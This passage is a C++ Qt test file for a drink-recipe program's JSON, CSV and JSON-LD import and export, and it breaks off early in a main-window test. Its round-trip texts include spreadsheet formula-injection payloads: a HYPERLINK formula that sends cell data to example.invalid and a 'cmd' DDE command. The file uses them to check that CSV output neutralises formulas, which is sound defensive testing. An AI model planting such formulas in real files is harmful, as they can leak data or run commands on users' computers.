// Export and import of drinks: round trips, duplicates, refusals, bad input,
// the command line, and the File menu's commands in the main window.
#include "TestSupport.h"

#include "data/CatalogueGuard.h"

#include "browser/RecipeExchange.h"
#include "browser/frmMain.h"
#include "data/Catalogue.h"
#include "interchange/Interchange.h"
#include "ui/FileChooser.h"
#include "ui/WorkProgress.h"

#include <QComboBox>
#include <QCryptographicHash>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QPushButton>
#include <QRadioButton>
#include <QCheckBox>
#include <QDragEnterEvent>
#include <QDropEvent>
#include <QMimeData>
#include <QPlainTextEdit>
#include <QUrl>
#include <QGroupBox>
#include <QLabel>
#include <QTableWidget>

#include <sqlite3.h>

using namespace pv::interchange;

namespace {

QStringList allDrinks(const QString &catalogue)
{
    QStringList cols;
    for (const QString &c : pv::drinkColumns())
        cols << QStringLiteral("coalesce(\"%1\", '')").arg(c);
    return pvtest::queryColumn(
        catalogue,
        QStringLiteral("SELECT %1 FROM drinklst ORDER BY rowid").arg(cols.join(QStringLiteral(" || char(31) || "))));
}

QByteArray fileHash(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? QCryptographicHash::hash(f.readAll(), QCryptographicHash::Sha256)
                                       : QByteArray();
}

void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(bytes);
}

// Runs the program's command line; returns its exit code and stderr.
QPair<int, QString> runProgram(const QStringList &args, const QString &folder)
{
    QProcess p;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    // No display at all: the command line must not need one.
    env.remove(QStringLiteral("DISPLAY"));
    env.remove(QStringLiteral("WAYLAND_DISPLAY"));
    env.remove(QStringLiteral("QT_QPA_PLATFORM"));
    p.setProcessEnvironment(env);
    p.setWorkingDirectory(folder);
    p.start(QStringLiteral(PV_APP_DIR "/pourvale"), args);
    if (!p.waitForFinished(60000) || p.exitStatus() != QProcess::NormalExit)
        return {-1, QStringLiteral("did not finish")};
    return {p.exitCode(), QString::fromUtf8(p.readAllStandardError())};
}

// Inserts rows of text, NULL where a value is null, with bound values.
void insertRows(const QString &catalogue, const QString &table, const QStringList &columns,
                const QList<QStringList> &rows)
{
    sqlite3 *db = nullptr;
    QCOMPARE(sqlite3_open(catalogue.toUtf8().constData(), &db), SQLITE_OK);
    QStringList cols, marks;
    for (const QString &c : columns) {
        cols << QLatin1Char('"') + c + QLatin1Char('"');
        marks << QStringLiteral("?");
    }
    sqlite3_stmt *st = nullptr;
    const QByteArray sql =
        QStringLiteral("INSERT INTO \"%1\" (%2) VALUES (%3)").arg(table, cols.join(','), marks.join(',')).toUtf8();
    QCOMPARE(sqlite3_prepare_v2(db, sql.constData(), -1, &st, nullptr), SQLITE_OK);
    for (const QStringList &row : rows) {
        for (int i = 0; i < row.size(); ++i) {
            const QByteArray u = row[i].toUtf8();
            if (row[i].isNull())
                sqlite3_bind_null(st, i + 1);
            else
                sqlite3_bind_text(st, i + 1, u.constData(), int(u.size()), SQLITE_TRANSIENT);
        }
        QCOMPARE(sqlite3_step(st), SQLITE_DONE);
        sqlite3_reset(st);
    }
    sqlite3_finalize(st);
    sqlite3_close(db);
}

ImportOutcome importFile(const QString &catalogue, const QString &file, OnDuplicate choice = OnDuplicate::Skip)
{
    ImportPlan plan = planImport(catalogue, readDrinkFile(file));
    plan.chooseForAll(choice);
    return applyImport(catalogue, plan);
}

using pvtest::onDialog;

} // namespace

class TestInterchange : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void roundTrip_data();
    void roundTrip();
    void exactRoundTrip_data();
    void exactRoundTrip();
    void webPages_data();
    void webPages();
    void duplicates_data();
    void duplicates();
    void badInput_data();
    void badInput();
    void refusedOrCancelledLeavesEverythingAsItWas();
    void commandLine();
    void fromTheMainWindow();
    void progressOnlyWhileWorkRuns();
};

void TestInterchange::roundTrip_data()
{
    QTest::addColumn<int>("format");
    QTest::newRow("json") << int(Format::Json);
    QTest::newRow("csv") << int(Format::Csv);
    QTest::newRow("jsonld") << int(Format::JsonLd);
}

void TestInterchange::roundTrip()
{
    QFETCH(int, format);
    pvtest::AppFolder app(pvtest::AppFolder::Seed::Small);
    // Text that trips writers: separators, quotes, line ends, accents, a gap
    // between ingredients, and a drink as the window adds it (no glass, no
    // category).
    pvtest::execSql(app.catalogue(),
                    "INSERT INTO drinklst (DrinkName, Glass, Category1, Catagory2, Category3, Directions, Ing1, Qty1, "
                    "Ing3, Qty3) VALUES ('Café, \"Royale\"', 'Irish Coffee', 'Hot Drinks', 'Brandy', '', "
                    "'Warm the glass,\r\nthen \"float\" the cream;\ttab \\ done', 'Coffee', '4 oz', 'Cognac', '1 oz');"
                    "INSERT INTO drinklst (DrinkName, Directions) VALUES ('House Special', '');");
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("out.") + formatName(Format(format)));
    ExportOptions options;
    options.format = Format(format);
    options.collections = true;
    const ExportResult exported = exportDrinks(app.catalogue(), file, options);
    QVERIFY2(exported.ok, qPrintable(exported.error));
    QCOMPARE(exported.drinks, 10);
    QFile written(file);
    QVERIFY(written.open(QIODevice::ReadOnly));
    const QByteArray bytes = written.readAll();
    QCOMPARE(detectFormat(bytes), Format(format));
    if (Format(format) == Format::JsonLd) {
        // Only the schema.org properties listed in docs/formats.md, each on its type.
        const QMap<QString, QStringList> allowed = {
            {"Recipe", {"@type", "name", "tool", "recipeCategory", "recipeIngredient", "supply", "recipeInstructions"}},
            {"HowToTool", {"@type", "name"}},
            {"HowToSupply", {"@type", "position", "name", "requiredQuantity"}}};
        const QJsonObject top = QJsonDocument::fromJson(bytes).object();
        QCOMPARE(top.keys(), (QStringList{"@context", "@graph"}));
        QCOMPARE(top.value("@context").toString(), QStringLiteral("https://schema.org"));
        std::function<void(const QJsonObject &)> check = [&](const QJsonObject &node) {
            const QString type = node.value("@type").toString();
            QVERIFY2(allowed.contains(type), qPrintable(type));
            for (const QString &key : node.keys()) {
                QVERIFY2(allowed[type].contains(key), qPrintable(type + "." + key));
                const QJsonValue v = node.value(key);
                for (const QJsonValue &item : v.isArray() ? v.toArray() : QJsonArray{v})
                    if (item.isObject())
                        check(item.toObject());
                    else
                        QVERIFY2(item.isString() || (key == "position" && item.isDouble()), qPrintable(key));
            }
        };
        for (const QJsonValue &recipe : top.value("@graph").toArray())
            check(recipe.toObject());
    }

    const QString fresh = dir.filePath(QStringLiteral("fresh.mdb"));
    createEmptyCatalogue(fresh);
    const ImportOutcome outcome = importFile(fresh, file);
    QVERIFY2(outcome.ok, qPrintable(outcome.error));
    QCOMPARE(outcome.added, 10);
    QCOMPARE(allDrinks(fresh), allDrinks(app.catalogue()));
    if (Format(format) == Format::Json)
        for (const pv::CollectionTable &t : pv::collectionTables()) {
            const QString sql = QStringLiteral("SELECT \"%1\" || '|' || \"%2\" FROM \"%3\" ORDER BY rowid")
                                    .arg(t.shortColumn, t.longColumn, t.table);
            QCOMPARE(pvtest::queryColumn(fresh, sql), pvtest::queryColumn(app.catalogue(), sql));
        }
}

void TestInterchange::exactRoundTrip_data()
{
    QTest::addColumn<QString>("suffix");
    QTest::newRow("json") << "json";
    QTest::newRow("csv") << "csv";
}

// Rows of every kind the windows or another program may leave, through the
// program's own --export and --import into a new catalogue, compared
// column for column.
void TestInterchange::exactRoundTrip()
{
    QFETCH(QString, suffix);
    QTemporaryDir dir;
    const QString source = dir.filePath("source.mdb");
    createEmptyCatalogue(source);
    const QStringList texts = {
        "",
        "Rocks",
        " Rocks ",
        "Tiki Mug",
        "Cocktail",
        "Non-Alcoholic",
        "a, b,, c",
        "say \"hi\", \"\"twice\"\"",
        "tab\there",
        "line one\nline two\n",
        "cr\ronly and crlf\r\n",
        "Ünïcödé Çafé",
        "中文 日本語 한국어",
        "العربية עברית",
        "🍸🍋 \u200d👩‍🍳",
        "=HYPERLINK(\"http://example.invalid/?\"&A3,\"Click me\")",
        "+cmd|' /C calc'!A0",
        "-2 oz",
        "@SUM(A1:A9)",
        "'quoted already",
        "'=not a formula",
        "''",
        "\tleading tab",
        "\rleading cr",
        "  padded  ",
        "back\\slash \\n not a line end",
        QString(6000, QLatin1Char('x')) + "end",
    };
    const QStringList columns = pv::drinkColumns();
    QList<QStringList> rows;
    for (int r = 0; r < 2 * texts.size(); ++r) {
        QStringList row;
        for (int c = 0; c < columns.size(); ++c)
            row << texts[(r * 7 + c * 3) % texts.size()];
        if (row[0].isEmpty())
            row[0] = QStringLiteral("Drink %1").arg(r);
        rows << row;
    }
    // Two drinks of one name, and one whose empty fields are null.
    rows << QStringList(columns.size(), QString("")) << QStringList(columns.size(), QString(""));
    rows[rows.size() - 2][0] = rows[rows.size() - 1][0] = QStringLiteral("Twin");
    rows[rows.size() - 1][1] = QStringLiteral("Rocks");
    QStringList nulls(columns.size(), QString());
    nulls[0] = QStringLiteral("Only a name");
    rows << nulls;
    insertRows(source, "drinklst", columns, rows);
    // Collections with awkward texts too, and a text twice in one table.
    insertRows(source, "joke", {"ID", "joke"}, {{"1", texts[15]}, {"2", texts[13]}, {"3", texts[13]}});
    insertRows(source, "Toasting", {"Cat", "Toasts"}, {{texts[6], texts[9]}, {texts[16], texts[26]}});
    insertRows(source, "cardgames", {"name", "instructions"}, {{texts[14], texts[10]}});

    const QString file = dir.filePath("backup." + suffix);
    QStringList exportArgs = {"--export", file, "--catalogue", source};
    if (suffix == QLatin1String("json"))
        exportArgs << "--collections";
    auto [code, err] = runProgram(exportArgs, dir.path());
    QVERIFY2(code == 0, qPrintable(err));
    const QString fresh = dir.filePath("fresh.mdb");
    std::tie(code, err) = runProgram({"--import", file, "--catalogue", fresh}, dir.path());
    QVERIFY2(code == 0, qPrintable(err));
    QVERIFY2(err.contains(QStringLiteral("Imported %1 drinks").arg(rows.size())), qPrintable(err));
    QVERIFY2(err.contains("a glass with no picture: "), qPrintable(err));
    QCOMPARE(allDrinks(fresh), allDrinks(source));
    if (suffix == QLatin1String("json"))
        for (const pv::CollectionTable &t : pv::collectionTables()) {
            const QString sql = QStringLiteral("SELECT coalesce(\"%1\", '') || '|' || \"%2\" FROM \"%3\" ORDER BY rowid")
                                    .arg(t.shortColumn, t.longColumn, t.table);
            QCOMPARE(pvtest::queryColumn(fresh, sql), pvtest::queryColumn(source, sql));
        }
    if (suffix == QLatin1String("csv")) {
        // No cell opens a formula in a spreadsheet.
        QFile f(file);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray bytes = f.readAll();
        for (const char *live : {",=HYPERLINK", ",+cmd", ",-2 oz", ",@SUM", ",\"=HYPERLINK", "\n=", "\n+", "\n@"})
            QVERIFY2(!bytes.contains(live), live);
        QVERIFY(bytes.contains(",\"'=HYPERLINK(") && bytes.contains(",'@SUM(A1:A9),") &&
                bytes.contains(",'-2 oz,") && bytes.contains(",''quoted already,"));
    }
    // Restored onto itself, a backup finds every drink a duplicate.
    std::tie(code, err) = runProgram({"--import", file, "--catalogue", fresh}, dir.path());
    QVERIFY2(code == 0 && err.contains(QStringLiteral("Imported 0 drinks; skipped %1 duplicates").arg(rows.size())),
             qPrintable(err));
}

void TestInterchange::webPages_data()
{
    QTest::addColumn<QString>("page");
    QTest::addColumn<QString>("error");
    // Per drink: name | glass | categories | qty:ing;... | directions | notes
    QTest::addColumn<QStringList>("drinks");
    QTest::newRow("@graph, entities, a glass in the steps")
        << "graph.html" << QString()
        << QStringList{"Gin & Juice|Cocktail|Cocktail|2 oz:gin;1/2 oz:fresh lime juice;1 1/2 oz:grapefruit juice;"
                       "3 dashes:Angostura bitters;:Lime wheel, for garnish|Shake the gin, juices and bitters with "
                       "ice. Strain into a chilled coupe glass & garnish with the lime wheel.|the glass 'Cocktail' is "
                       "taken from the directions"};
    QTest::newRow("several recipes, too many ingredients and categories")
        << "several.html" << QString()
        << QStringList{"Garden Party Punch||Punch,Party,Summer|4 cups:apple juice;2 cups:white grape juice;1 "
                       "cup:lemonade;1 cup:ginger ale;1/2 cup:lime juice;1/4 cup:honey syrup;2 sprigs:mint;1:orange, "
                       "sliced;1:lemon, sliced;1 cup:strawberries|Stir the juices and syrup in a punch bowl. Add the "
                       "fruit and ice; top with ginger ale.\n\nAlso: 1 cup blueberries; Ice|2 ingredients past the "
                       "tenth put in the directions,categories past the third left out: Non-Alcoholic",
                       "Café Royale ☕|Irish Coffee|Hot Drinks|1 cup:hot coffee;1 oz:cognac;1:sugar cube|Pour the "
                       "coffee into an Irish coffee mug. Warm the cognac, pour it over the sugar and light it.|the "
                       "glass 'Irish Coffee' is taken from the directions"};
    QTest::newRow("microdata, unclosed items, a script and a comment")
        << "microdata.html" << QString()
        << QStringList{"Bee’s Knees|Cocktail|Gin Cocktails|2 oz:London dry gin;3/4 oz:fresh lemon juice;3/4 oz:honey "
                       "syrup (1:1)|Shake everything hard with ice. Double strain into a cocktail glass.|the glass "
                       "'Cocktail' is taken from the directions"};
    QTest::newRow("no recipe") << "norecipe.html"
                               << "The page holds no recipe (no schema.org Recipe as JSON-LD or microdata)."
                               << QStringList();
    QTest::newRow("broken JSON-LD") << "broken.html" << "the JSON-LD at line 3 is not valid JSON" << QStringList();
}

void TestInterchange::webPages()
{
    QFETCH(QString, page);
    QFETCH(QString, error);
    QFETCH(QStringList, drinks);
    const ReadResult r = readDrinkFile(QStringLiteral(PV_SOURCE_DIR "/tests/interchange/pages/") + page);
    QVERIFY2(error.isEmpty() ? r.error.isEmpty() : r.error.contains(error), qPrintable(r.error));
    QStringList got;
    for (const Entry &e : r.entries) {
        QStringList ings;
        for (const auto &i : e.drink.ingredients)
            ings << i.first + ':' + i.second;
        got << QStringList{e.drink.name, e.drink.glass, e.drink.categories.join(','), ings.join(';'),
                           e.drink.directions, e.notes.join(',')}
                   .join('|');
        QVERIFY2(e.refusal.isEmpty(), qPrintable(e.refusal));
    }
    QCOMPARE(got, drinks);
}

void TestInterchange::duplicates_data()
{
    QTest::addColumn<QList<int>>("choices"); // per file entry
    QTest::addColumn<QStringList>("names");  // of the catalogue afterwards
    QTest::addColumn<QString>("summary");
    const int skip = int(OnDuplicate::Skip), replace = int(OnDuplicate::Replace), both = int(OnDuplicate::KeepBoth);
    const QStringList before = {"Bee's Knees", "Cuba Libre", "Gin and Tonic",   "Manhattan",
                                "Negroni",     "Pink Gin",   "Planter's Punch", "Shirley Temple"};
    QStringList replaced = before;
    replaced[4] = QStringLiteral("NÉGRONI");
    // The file's second negroni meets no second Negroni in the catalogue:
    // drinks of one file are not duplicates of each other.
    QTest::newRow("skip") << QList<int>{skip, skip, skip} << before + QStringList{"Zombie", "negroni"}
                          << "Imported 2 drinks; skipped 1 duplicate";
    QTest::newRow("replace") << QList<int>{replace, replace, replace} << replaced + QStringList{"Zombie", "negroni"}
                             << "Imported 2 drinks; replaced 1 duplicate";
    QTest::newRow("keep both") << QList<int>{both, both, both}
                               << before + QStringList{"NÉGRONI (2)", "Zombie", "negroni"} << "Imported 3 drinks";
}

void TestInterchange::duplicates()
{
    QFETCH(QList<int>, choices);
    QFETCH(QStringList, names);
    QFETCH(QString, summary);
    pvtest::AppFolder app(pvtest::AppFolder::Seed::Small);
    // One clash with the catalogue in other case and accents, one new drink,
    // and one clash with the catalogue and with the file's first drink.
    const ReadResult read = readDrinks(R"({"format": "pourvale-recipes", "version": 1, "drinks": [
        {"name": "NÉGRONI", "glass": "Cocktail", "categories": ["Gin"], "directions": "Stirred."},
        {"name": "Zombie", "glass": "Collins", "categories": ["Rum", "Tropical"]},
        {"name": "negroni", "glass": "Old-Fashioned"}]})",
                                       Format::Json);
    ImportPlan plan = planImport(app.catalogue(), read);
    QCOMPARE(plan.count(PlanItem::Duplicate), 1);
    QCOMPARE(plan.items[2].status, PlanItem::New);
    QCOMPARE(plan.items[0].duplicateOf, QStringLiteral("Negroni"));
    for (int i = 0; i < 3; ++i)
        plan.items[i].choice = OnDuplicate(choices[i]);
    const ImportOutcome outcome = applyImport(app.catalogue(), plan);
    QVERIFY2(outcome.ok, qPrintable(outcome.error));
    QCOMPARE(outcome.summary(), summary);
    QCOMPARE(pvtest::queryColumn(app.catalogue(), "SELECT DrinkName FROM drinklst ORDER BY rowid"), names);
    // A replaced drink keeps its place and takes every field of the new one.
    if (choices[0] == int(OnDuplicate::Replace))
        QCOMPARE(pvtest::queryColumn(app.catalogue(),
                                     "SELECT Glass || Category1 || Directions || Ing1 FROM drinklst WHERE rowid = 5"),
                 QStringList{"CocktailGinStirred."});
}

void TestInterchange::badInput_data()
{
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QString>("error");    // of the whole file, or empty
    QTest::addColumn<QStringList>("seen"); // "where|name|refusal" of each drink read
    const QByteArray deep = QByteArray(10000, '[') + QByteArray(10000, ']');
    const QByteArray big(10 * 1024 * 1024, 'x');
    QTest::newRow("empty") << QByteArray() << "The file is empty." << QStringList();
    QTest::newRow("only a BOM") << QByteArray("\xEF\xBB\xBF\r\n") << "The file is empty." << QStringList();
    QTest::newRow("not UTF-8") << QByteArray("DrinkName\nMartini\nCaf\xE9\n") << "line 3: the file is not UTF-8 text"
                               << QStringList();
    QTest::newRow("BOM and CRLF") << QByteArray("\xEF\xBB\xBF"
                                                "DrinkName,Glass\r\nMartini,Cocktail\r\n\r\nGimlet,Cocktail\r\n")
                                  << QString() << QStringList{"line 2|Martini|", "line 4|Gimlet|"};
    QTest::newRow("quoted commas and line breaks")
        << QByteArray(
               "DrinkName,Directions,Glass\n\"Gin, Tonic\",\"Build.\nStir \"\"well\"\".\",Highball\nNext,,Tiki Mug\n")
        << QString() << QStringList{"line 2|Gin, Tonic|", "line 4|Next|"};
    QTest::newRow("CSV nameless rows") << QByteArray("Glass,DrinkName\nShot,\nShot,  \nTiki Mug,X\n") << QString()
                                       << QStringList{"line 2||the drink has no name",
                                                      "line 3|  |", "line 4|X|"};
    QTest::newRow("CSV cut short") << QByteArray("DrinkName,Directions\nGimlet,\"Shake and")
                                   << "line 2: a quoted field is not closed (is the file cut short?)" << QStringList();
    QTest::newRow("CSV short row") << QByteArray("DrinkName,Glass,Directions\nGimlet,Cocktail\n") << QString()
                                   << QStringList{"line 2|Gimlet|2 fields where the header has 3"};
    QTest::newRow("CSV eleven ingredients") << QByteArray("DrinkName,Ing10,Qty11,Ing11\nLong,Gin,1 oz,Tonic\n")
                                            << QString() << QStringList{"line 2|Long|11 ingredients; at most ten fit"};
    // A file is read a mebibyte at a time: a character cut by a piece's end
    // and a bad byte past the first piece.
    const QByteArray head("DrinkName,Directions\nA,");
    const QByteArray fill((1 << 20) - head.size() - 1, 'x');
    QTest::newRow("CSV across pieces") << head + fill + "\xC3\xA9\nB,ok\n" << QString()
                                       << QStringList{"line 2|A|", "line 3|B|"};
    QTest::newRow("CSV not UTF-8 in a later piece") << head + fill + "y\nB,Caf\xE9\n"
                                                    << "line 3: the file is not UTF-8 text" << QStringList();
    // Files that cost far more memory than their size are refused, whatever the format.
    QByteArray manyDrinks("DrinkName\n");
    for (int i = 0; i <= pv::interchange::kMaxImportDrinks; ++i)
        manyDrinks += "x\n";
    QTest::newRow("CSV of too many drinks") << manyDrinks << "The file holds more than 1,000,000 drinks"
                                            << QStringList();
    QTest::newRow("CSV line of too many fields") << "DrinkName" + QByteArray(1000, ',') + "\nx\n"
                                                 << "line 1: more than 1000 fields in one line" << QStringList();
    QByteArray manyObjects("{\"format\": \"pourvale-recipes\", \"drinks\": [{}");
    manyObjects += QByteArray(5'000'000 * 3, ',').replace(",,,", ",{}") + "]}";
    QTest::newRow("JSON of too many objects") << manyObjects << "more than 5,000,000 lists and objects"
                                              << QStringList();
    // Braces inside a string, behind an escaped quote and an escaped backslash, are text.
    const QByteArray braces(5'000'001, '{');
    QTest::newRow("JSON braces in a string") << "{\"format\": \"pourvale-recipes\", \"drinks\": [{\"name\": \"a\\\\\", "
                                                "\"glass\": \"q\\\"" + braces + "\"}]}"
                                             << QString() << QStringList{"entry 1|a\\|"};
    QByteArray manyTags("<html><body>");
    for (int i = 0; i < 1'000'000; ++i)
        manyTags += "<b>";
    QTest::newRow("page of too many elements") << manyTags << "The page holds more than 1,000,000 elements"
                                               << QStringList();
    QTest::newRow("CSV slot of a huge number") << QByteArray("DrinkName,Ing999999999\nX,Gin\n") << QString()
                                               << QStringList{"line 2|X|999999999 ingredients; at most ten fit"};
    QTest::newRow("CSV without names") << QByteArray("a,b\n1,2\n")
                                       << "line 1: the first line must name the columns, DrinkName among them"
                                       << QStringList();
    QTest::newRow("JSON cut short") << QByteArray("{\"format\": \"pourvale-recipes\",\n\"drinks\": [{\"name\": \"X\"")
                                    << "line 2: the file is not valid JSON" << QStringList();
    QTest::newRow("JSON 10000 deep") << QByteArray("{\"format\": \"pourvale-recipes\", \"drinks\": ") + deep + "}"
                                     << "the file is not valid JSON (too deeply nested" << QStringList();
    QTest::newRow("JSON-LD 10000 deep") << deep << "the file is not valid JSON (too deeply nested" << QStringList();
    QTest::newRow("10 MB string, unknown fields")
        << QByteArray(
               "{\"format\": \"pourvale-recipes\", \"future\": {}, \"drinks\": [{\"name\": \"Big\", \"garnish\": 1, "
               "\"directions\": \"") +
               big + "\"}]}"
        << QString() << QStringList{"entry 1|Big|"};
    QTest::newRow("duplicate keys, numbers and lists where text belongs")
        << QByteArray(
               "{\"format\": \"pourvale-recipes\", \"drinks\": [{\"name\": \"A\", \"name\": \"B\"}, {\"name\": 42}, "
               "{\"name\": \"C\", \"glass\": [\"Shot\"]}, 7]}")
        << QString()
        << QStringList{"entry 1|B|", "entry 2||'name' is a number where text belongs",
                       "entry 3|C|'glass' is a list where text belongs", "entry 4||a drink must be an object"};
    QTest::newRow("newer format") << QByteArray("{\"format\": \"pourvale-recipes\", \"version\": 2, \"drinks\": []}")
                                  << "newer Pourvale (format version 2)" << QStringList();
    QTest::newRow("a web page's recipe") << QByteArray(
                                                R"({"@context": "https://schema.org", "@graph": [{"@type": "WebPage"},
              {"@type": ["Recipe"], "name": "Daiquiri", "recipeCategory": "Rum", "tool": "Cocktail",
               "recipeIngredient": ["2 oz White Rum", "3/4 oz Lime Juice", "Ice"],
               "recipeInstructions": [{"@type": "HowToStep", "text": "Shake."}, {"@type": "HowToStep", "text": "Strain."}]}]})")
                                         << QString() << QStringList{"recipe 1|Daiquiri|"};
    QTest::newRow("no recipe in JSON-LD") << QByteArray(R"({"@context": "https://schema.org", "@type": "Person"})")
                                          << "The file holds no schema.org Recipe." << QStringList();
}

void TestInterchange::badInput()
{
    QFETCH(QByteArray, content);
    QFETCH(QString, error);
    QFETCH(QStringList, seen);
    const ReadResult r = readDrinks(content, detectFormat(content));
    QVERIFY2(error.isEmpty() ? r.error.isEmpty() : r.error.startsWith(error) || r.error.contains(error),
             qPrintable(r.error));
    QStringList got;
    for (const Entry &e : r.entries)
        got << e.where + QLatin1Char('|') + e.drink.name + QLatin1Char('|') + e.refusal;
    QCOMPARE(got, seen);
    // The file is read as it goes, to the same result.
    QTemporaryDir dir;
    QFile file(dir.filePath(QStringLiteral("in")));
    QVERIFY(file.open(QIODevice::WriteOnly) && file.write(content) == content.size());
    file.close();
    const ReadResult fromFile = readDrinkFile(file.fileName());
    QCOMPARE(fromFile.error.isEmpty(), r.error.isEmpty());
    QCOMPARE(fromFile.error, r.error);
    QCOMPARE(fromFile.entries.size(), r.entries.size());
    for (qsizetype i = 0; i < r.entries.size(); ++i) {
        QCOMPARE(fromFile.entries[i].drink.directions, r.entries[i].drink.directions);
        QCOMPARE(fromFile.entries[i].refusal, r.entries[i].refusal);
    }
    if (QTest::currentDataTag() == QLatin1String("CSV across pieces"))
        QVERIFY(fromFile.entries[0].drink.directions.endsWith(QStringLiteral("x\u00e9")));
    if (QTest::currentDataTag() == QLatin1String("quoted commas and line breaks"))
        QCOMPARE(r.entries[0].drink.directions, QStringLiteral("Build.\nStir \"well\"."));
    if (QTest::currentDataTag() == QLatin1String("a web page's recipe")) {
        const pv::DrinkSeed &d = r.entries[0].drink;
        QCOMPARE(d.directions, QStringLiteral("Shake. Strain."));
        QCOMPARE(d.glass, QStringLiteral("Cocktail"));
        QCOMPARE(d.ingredients,
                 (QList<QPair<QString, QString>>{{"2 oz", "White Rum"}, {"3/4 oz", "Lime Juice"}, {"", "Ice"}}));
    }
}

void TestInterchange::refusedOrCancelledLeavesEverythingAsItWas()
{
    pvtest::AppFolder app(pvtest::AppFolder::Seed::Small);
    QTemporaryDir dir;
    const QByteArray before = fileHash(app.catalogue());

    // Cancelled half-way, after rows were written inside the transaction.
    QString csv = QStringLiteral("DrinkName,Glass\n");
    for (int i = 0; i < 600; ++i)
        csv += QStringLiteral("Drink %1,Shot\n").arg(i);
    const QString input = dir.filePath(QStringLiteral("many.csv"));
    writeFile(input, csv.toUtf8());
    ImportPlan plan = planImport(app.catalogue(), readDrinkFile(input));
    int calls = 0;
    const ImportOutcome cancelled = applyImport(app.catalogue(), plan, [&](qint64, qint64) { return ++calls < 2; });
    QVERIFY(cancelled.cancelled && !cancelled.ok);
    QCOMPARE(fileHash(app.catalogue()), before);

    // A fault in the middle of the writing (here a trigger of the test's
    // own) rolls back what was written before it.
    pv::guard::trustTriggersForTests({QStringLiteral("fault")});
    pvtest::execSql(app.catalogue(), "CREATE TRIGGER fault BEFORE INSERT ON drinklst WHEN NEW.DrinkName = 'Drink 300' "
                                     "BEGIN SELECT RAISE(ABORT, 'disk trouble'); END");
    const QByteArray withTrigger = fileHash(app.catalogue());
    const ImportOutcome failed = applyImport(app.catalogue(), plan);
    QVERIFY(!failed.ok);
    QVERIFY2(failed.error.contains(QStringLiteral("disk trouble")) &&
                 failed.error.contains(QStringLiteral("Nothing was imported")),
             qPrintable(failed.error));
    QCOMPARE(fileHash(app.catalogue()), withTrigger);

    // A cancelled export leaves the file that was there.
    const QString out = dir.filePath(QStringLiteral("out.json"));
    writeFile(out, "keep me");
    ExportOptions options;
    const ExportResult r = exportDrinks(app.catalogue(), out, options, [](qint64, qint64) { return false; });
    QVERIFY(r.cancelled && !r.ok);
    QCOMPARE(fileHash(out), QCryptographicHash::hash("keep me", QCryptographicHash::Sha256));
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden).size(), 2);
}

void TestInterchange::commandLine()
{
    pvtest::AppFolder app(pvtest::AppFolder::Seed::Small);
    QTemporaryDir dir;
    // One nameless drink among good ones; glasses the program has no
    // picture for are kept.
    writeFile(dir.filePath("bad.csv"), "DrinkName,Glass\nZombie,Collins\n,Shot\nTiki Thing,Tiki Mug\n");
    writeFile(dir.filePath("good.csv"), "DrinkName,Glass\nZombie,Collins\nnegroni,Rocks\n");
    const QString cat = app.catalogue();
    struct Run {
        QStringList args;
        int exitCode;
        QString stderrHas;
        bool changes; // the catalogue afterwards
    };
    // Paths a message names exactly once.
    const QStringList namedOnce = {dir.path() + "/pv.mdb", dir.filePath("gone.json")};
    const QList<Run> runs = {
        {{"--version"}, 0, "", false},
        {{"--help"}, 0, "", false},
        {{"--export"}, 2, "--export needs a value", false},
        {{"--export", "x.json", "--format", "xml"}, 2, "--format must be json, csv or jsonld", false},
        {{"--import", "a", "--export", "b"}, 2, "give either --export FILE or --import FILE", false},
        {{"--exprot", "x.json"}, 2, "unknown argument '--exprot'", false},
        {{"--export", "x.json", "--strict"}, 2, "--strict belongs to --import", false},
        {{"--export", dir.filePath("all.jsonld"), "--catalogue", cat}, 0, "Exported 8 drinks", false},
        {{"--export", dir.filePath("nowhere/x.json"), "--catalogue", cat}, 1, "cannot be written", false},
        {{"--export", dir.filePath("x.json"), "--catalogue", dir.filePath("missing.mdb")}, 1, "does not exist", false},
        {{"--import", dir.filePath("bad.csv"), "--catalogue", cat, "--strict"},
         1,
         "line 3: the drink has no name\npourvale: refused 1; nothing was imported (--strict).",
         false},
        {{"--import", dir.filePath("bad.csv"), "--catalogue", cat},
         1,
         "line 3: the drink has no name\nImported 2 drinks; refused 1 (line 3: the drink has no name).\n"
         "1 drink uses a glass with no picture: Tiki Mug.",
         true},
        {{"--import", dir.filePath("good.csv"), "--catalogue", cat, "--on-duplicate", "keep-both"},
         0,
         "Imported 2 drinks.\n1 drink uses a glass with no picture: Rocks.\n"
         "Left as written; File > Import offers: Use the glass 'Old-Fashioned' for 'Rocks' (1 drink).",
         true},
        {{"--import", dir.filePath("all.jsonld"), "--catalogue", dir.filePath("restored.mdb")},
         0,
         "Imported 8 drinks",
         false},
        {{"--export", dir.filePath("y.json"), "--catalogue", dir.path()}, 1, "is a folder", false},
        {{"--import", dir.filePath("good.csv"), "--catalogue", dir.path()}, 1, "is a folder", false},
        {{"--import", dir.filePath("gone.json"), "--catalogue", cat}, 1, "does not exist", false},
    };
    QByteArray hash = fileHash(cat);
    for (const Run &run : runs) {
        const auto [code, err] = runProgram(run.args, dir.path());
        QVERIFY2(code == run.exitCode, qPrintable(run.args.join(' ') + " -> " + QString::number(code) + ": " + err));
        QVERIFY2(err.contains(run.stderrHas), qPrintable(err));
        for (const QString &path : namedOnce)
            QVERIFY2(!err.contains(path) || err.count(path) == 1, qPrintable(err));
        QCOMPARE(fileHash(cat) != hash, run.changes);
        hash = fileHash(cat);
    }
    QCOMPARE(pvtest::queryColumn(cat, "SELECT DrinkName || '|' || Glass FROM drinklst WHERE rowid > 8"),
             (QStringList{"Zombie|Collins", "Tiki Thing|Tiki Mug", "Zombie (2)|Collins", "negroni (2)|Rocks"}));
    QCOMPARE(pvtest::queryColumn(dir.filePath("restored.mdb"), "SELECT count(*) FROM Gin"), QStringList{"4"});
}

void TestInterchange::fromTheMainWindow()
{
    pvtest::AppFolder app(pvtest::AppFolder::Seed::Small);
    pvtest::MsgRecorder msgs;
    QTemporaryDir dir;
    QString nextFile;
